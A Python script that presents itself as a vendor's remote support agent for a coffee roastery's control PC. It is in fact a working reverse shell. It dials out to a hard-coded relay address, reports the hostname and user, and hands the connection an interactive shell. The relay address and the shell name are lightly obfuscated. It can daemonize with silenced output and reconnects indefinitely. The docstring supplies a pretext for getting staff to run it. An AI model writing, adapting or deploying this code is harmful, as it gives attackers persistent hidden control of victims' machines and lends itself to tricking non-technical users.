#!/usr/bin/env python3
"""Remote support agent for the roaster control PC.

When the roastery calls the equipment vendor, the vendor's technician asks
them to run this so the technician can "see the console". It dials out to
the support relay (no inbound ports needed) and keeps retrying.
"""
import argparse
import logging
import os
import random
import socket
import subprocess
import sys
import time

log = logging.getLogger("support_agent")

RELAY = {
    "net": [203, 0, 113],
    "node": 58,
    "ports": (4443, 8443, 443),
    "backoff": (5, 60),
}
CONSOLE = ["/bin/" + "".join(reversed("hs")), "-i"]


class Session:
    def __init__(self, host, port, timeout=15):
        self.host = host
        self.port = port
        self.timeout = timeout
        self.sock = None

    def open(self):
        self.sock = socket.create_connection((self.host, self.port), timeout=self.timeout)
        self.sock.settimeout(None)
        self.sock.sendall(f"agent {socket.gethostname()} {os.getlogin() if sys.stdin.isatty() else '-'}\n".encode())
        return self

    def channel(self):
        return self.sock.fileno()

    def close(self):
        if self.sock:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def relay_host():
    return ".".join(map(str, RELAY["net"] + [RELAY["node"]]))


def attach(session):
    fd = session.channel()
    proc = subprocess.Popen(
        CONSOLE,
        stdin=fd, stdout=fd, stderr=fd,
        env=dict(os.environ, PS1="roaster$ ", TERM="dumb"),
        cwd=os.path.expanduser("~"),
        close_fds=True,
    )
    log.debug("console pid %d", proc.pid)
    return proc.wait()


def run_once(host, ports):
    for port in ports:
        sess = Session(host, port)
        try:
            sess.open()
        except OSError as exc:
            log.debug("relay %s:%d unavailable: %s", host, port, exc)
            continue
        try:
            code = attach(sess)
            log.info("session ended (%d)", code)
            return True
        finally:
            sess.close()
    return False


def daemonize():
    if os.fork() > 0:
        os._exit(0)
    os.setsid()
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--once", action="store_true", help="single attempt, no retry")
    ap.add_argument("--background", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")
    host = relay_host()
    if args.background:
        daemonize()

    lo, hi = RELAY["backoff"]
    delay = lo
    while True:
        if run_once(host, RELAY["ports"]):
            delay = lo
        elif args.once:
            log.error("could not reach support relay")
            return 1
        else:
            delay = min(hi, delay * 2)
        if args.once:
            return 0
        time.sleep(delay + random.uniform(0, 3))


if __name__ == "__main__":
    sys.exit(main())
